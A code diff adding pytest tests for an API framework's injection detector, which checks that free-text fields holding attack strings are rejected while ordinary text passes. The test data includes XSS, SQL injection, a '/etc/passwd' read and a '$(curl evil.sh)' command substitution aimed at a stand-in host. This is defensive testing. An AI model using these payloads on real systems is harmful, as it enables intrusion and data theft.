@@ -204,6 +204,54 @@ async def test_recursive_schema(client, app):
     assert (await client.post("/trees", json=sneaky)).status_code == 422
 
 
+# -- injection payloads (B6) ---------------------------------------------------------------
+
+
+@pytest.mark.parametrize(("body", "pointer", "reason"), [
+    ({"name": "<script>alert(1)</script>"}, "/body/name", "xss"),
+    ({"name": "1 union select password"}, "/body/name", "sql-injection"),
+    ({"name": "x; cat /etc/passwd"}, "/body/name", "shell-injection"),
+    ({"name": "pen", "labels": ["ok", "$(curl evil.sh)"]}, "/body/labels/1", "shell-injection"),
+])
+async def test_payloads_in_free_text_are_refused(client, app, body, pointer, reason):
+    response = await client.post("/items", json=body)
+    assert response.status_code == 400, response.text
+    document = response.json()
+    assert document["type"].endswith("injection-suspected") and document["practice"] == "B6"
+    assert document["errors"] == [{"pointer": pointer, "reason": reason}]
+    assert "script" not in response.text and "passwd" not in response.text
+    assert app.seen == []
+
+
+async def test_payload_in_query_parameter(client, app):
+    response = await client.post("/loose?q=1'%20OR%20'1'%3D'1", json={"a": 1})
+    assert response.status_code == 400
+    assert response.json()["errors"] == [{"pointer": "/query/q", "reason": "sql-injection"}]
+
+
+@pytest.mark.parametrize("text", ["O'Brien", "Tom & Jerry; see you", "SELECT the best one",
+                                  "a<b and c>d", "price: 10-20%"])
+async def test_ordinary_text_passes(client, app, text):
+    response = await client.post("/items", json={"name": text[:32]})
+    assert response.status_code == 200, response.text
+
+
+async def test_constrained_fields_are_not_scanned(client, app):
+    # X-Trace has a pattern: a payload fails the pattern (400 invalid-parameters), and is
+    # never reported as an injection
+    response = await client.get("/items/1", headers={"X-Trace": "' or 1=1"})
+    assert response.json()["type"].endswith("invalid-parameters")
+
+
+async def test_detection_off_per_operation(client, app):
+    tree = {"value": 1, "children": [{"value": 2}], "note": "<script>x</script>"}
+    # /trees has `injection: false` (and strict mode refuses the undeclared `note`)
+    response = await client.post("/trees", json=tree)
+    assert response.json()["type"].endswith("invalid-body")
+    del tree["note"]
+    assert (await client.post("/trees", json=tree)).status_code == 200
+
+
 # -- compile-time refusals ------------------------------------------------------------------
 
 
